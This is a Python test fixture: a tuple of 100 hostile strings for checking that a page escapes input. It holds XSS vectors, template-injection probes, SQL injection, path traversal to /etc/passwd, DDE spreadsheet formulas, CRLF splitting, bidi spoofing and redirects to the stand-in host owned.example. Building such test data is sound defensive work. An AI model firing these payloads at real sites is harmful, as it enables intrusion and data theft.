"""A hundred texts that would run a script, break a page or hide themselves, were they not escaped.

Whatever of them runs sets `window.owned`, opens a dialog, or fetches `owned`.
"""

_RUN = "window.owned=1;alert(1)"
_TAGS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src=data:text/javascript,{run}></script>",
    "<script\x00>{run}</script>",
    "<svg><script>{run}</script></svg>",
    "<img src=x onerror={run}>",
    '<img src=x onerror="{run}"//',
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<body onload={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<marquee onstart={run}>",
    "<style>@import 'owned';body{{display:none}}</style>",
    "<link rel=stylesheet href=owned>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=//owned.example/>",
    "<form action=//owned.example><button>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<!--<img src='--><img src=x onerror={run}>'>",
    "<template><img src=x onerror={run}></template>",
    "<a href=javascript:{run}>x</a>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<plaintext>",
)
_BREAKS = (
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</pre>",
    "</option></select>",
    "</script>",
    "-->",
    '" autofocus onfocus="{run}" x="',
    "' onmouseover='{run}' x='",
)
_OTHERS = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "data:text/html,<script>{run}</script>",
    "vbscript:{run}",
    "{{{{ 7 * 7 }}}}",
    "{{% for x in range(9) %}}x{{% endfor %}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "${{{run}}}",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\u202etxt.exe",
    "\u2066\u202eevil\u2069",
    "\u200b\u200d\ufeff",
    "a\u0300\u0301\u0302\u0303" * 20,
    "x" * 3_000,
    "\x1b[2J\x1b]0;owned\x07",
    "line\nbreak\r\n\r\nHTTP/1.1 200 OK",
    "../../etc/passwd",
    "//owned.example/x",
    "\\\\owned\\x",
    "'; DROP TABLE document; --",
    "%s%s%n %d",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)",
    "null",
    "true",
)
HOSTILE = tuple(
    one.format(run=_RUN)
    for one in (
        *_TAGS,
        *_BREAKS,
        *_OTHERS,
        *(f"{mark}{tag}" for mark in ('">', "</textarea>") for tag in _TAGS[:14]),
    )
)
assert len(HOSTILE) == 100, len(HOSTILE)
